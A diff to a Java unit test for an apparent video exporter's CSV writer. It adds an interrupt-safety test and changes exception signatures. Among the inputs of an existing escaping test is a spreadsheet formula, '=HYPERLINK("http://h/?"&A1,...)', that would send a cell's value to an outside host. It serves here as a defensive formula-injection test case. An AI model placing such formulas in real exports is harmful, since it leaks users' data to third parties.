@@ -3,7 +3,9 @@ package com.example.brightcove.videoexporter;
 import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertNotEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.example.brightcove.videoexporter.Csv.Formulas;
@@ -30,7 +32,7 @@ class CsvTest {
 
   @TempDir Path directory;
 
-  private Path write(Csv csv, List<String> header, List<List<String>> rows) throws IOException {
+  private Path write(Csv csv, List<String> header, List<List<String>> rows) throws Exception {
     Path table = directory.resolve("table.csv");
     csv.write(directory.resolve("part"), table, header, rows.stream());
     return table;
@@ -44,7 +46,7 @@ class CsvTest {
   }
 
   /** A row in which every column of both tables has this cell. */
-  private List<List<String>> everywhere(Csv csv, String cell) throws IOException {
+  private List<List<String>> everywhere(Csv csv, String cell) throws Exception {
     List<String> header =
         Stream.concat(ExportedVideo.COLUMNS.stream(), Failure.COLUMNS.stream()).toList();
     return read(write(csv, header, List.of(Collections.nCopies(header.size(), cell))));
@@ -68,7 +70,7 @@ class CsvTest {
         "=HYPERLINK(\"http://h/?\"&A1,\"x\")",
         "-\u00dcbung \ud83d\ude00"
       })
-  void aFormulaBeginsWithAnApostropheInTextOfPeopleAndNowhereElse(String cell) throws IOException {
+  void aFormulaBeginsWithAnApostropheInTextOfPeopleAndNowhereElse(String cell) throws Exception {
     List<List<String>> table = everywhere(USUAL, cell);
     List<String> text = List.of("Name", "OriginalFileName", "Tags", "Folder", "Reason");
     int defused = 0;
@@ -85,12 +87,12 @@ class CsvTest {
   @ParameterizedTest
   @ValueSource(
       strings = {"", "a=1", "1+1", " =1", "'=1", "\"=1", "\u2212 1", "(=1", "a\n=1", "a,=1"})
-  void anyOtherTextIsAsItWas(String cell) throws IOException {
+  void anyOtherTextIsAsItWas(String cell) throws Exception {
     assertTrue(everywhere(USUAL, cell).get(1).stream().allMatch(cell::equals));
   }
 
   @Test
-  void anyCellsAreReadAgainAsTheyWere() throws IOException {
+  void anyCellsAreReadAgainAsTheyWere() throws Exception {
     Random random = new Random(1);
     int[] characters =
         "a\u00fc\u51b7\ud83d\ude00,;\"'\r\n\t =#\ufeff\u0000\u2028".codePoints().toArray();
@@ -122,7 +124,7 @@ class CsvTest {
   }
 
   @Test
-  void theBytesAreThoseOfRfc4180WithTheMarkOnlyIfAskedFor() throws IOException {
+  void theBytesAreThoseOfRfc4180WithTheMarkOnlyIfAskedFor() throws Exception {
     List<List<String>> rows = List.of(List.of("1", "=\u00fc, \"x\""), List.of("-2", ""));
     List<String> header = List.of("Id", "Name");
     assertEquals(
@@ -134,7 +136,19 @@ class CsvTest {
   }
 
   @Test
-  void aTableThatIsAlreadySoIsLeftAlone() throws IOException {
+  void anInterruptIsOneAndNoFaultOfTheDiskAndLeavesTheTableAsItWas() throws Exception {
+    List<String> header = List.of("Name");
+    byte[] before = Files.readAllBytes(write(USUAL, header, List.of(List.of("old"))));
+    Thread.currentThread().interrupt();
+    assertThrows(
+        InterruptedException.class,
+        () -> write(USUAL, header, Collections.nCopies(20_000, List.of("new"))));
+    assertFalse(Thread.interrupted());
+    assertArrayEquals(before, Files.readAllBytes(directory.resolve("table.csv")));
+  }
+
+  @Test
+  void aTableThatIsAlreadySoIsLeftAlone() throws Exception {
     List<String> header = List.of("Id", "Name");
     Path table = write(USUAL, header, List.of(List.of("1", "one")));
     FileTime longAgo = FileTime.fromMillis(0);
